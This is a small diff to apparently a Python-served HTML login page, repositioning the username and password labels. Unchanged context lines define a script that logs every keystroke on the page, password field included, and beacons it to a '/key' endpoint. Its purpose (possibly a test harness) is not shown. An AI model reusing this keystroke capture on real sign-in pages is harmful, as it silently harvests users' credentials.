@@ -7,8 +7,8 @@ from urllib.parse import parse_qs
 
 LISTENS = """<script>addEventListener('keydown', e => navigator.sendBeacon('/key', document.title + ' ' + e.key), true)</script>"""
 FORM = """<form method=post action=/welcome style="font-size:18px">
-<p>User <input name=user style="position:absolute;left:200px;top:80px;width:400px;height:30px"></p>
-<p>Password <input type=password name=password style="position:absolute;left:200px;top:140px;width:400px;height:30px"></p>
+<label style="position:absolute;left:60px;top:86px">User</label><input name=user style="position:absolute;left:200px;top:80px;width:400px;height:30px">
+<label style="position:absolute;left:60px;top:146px">Password</label><input type=password name=password style="position:absolute;left:200px;top:140px;width:400px;height:30px">
 <button style="position:absolute;left:200px;top:200px;height:40px">Sign in</button></form>"""
 
 
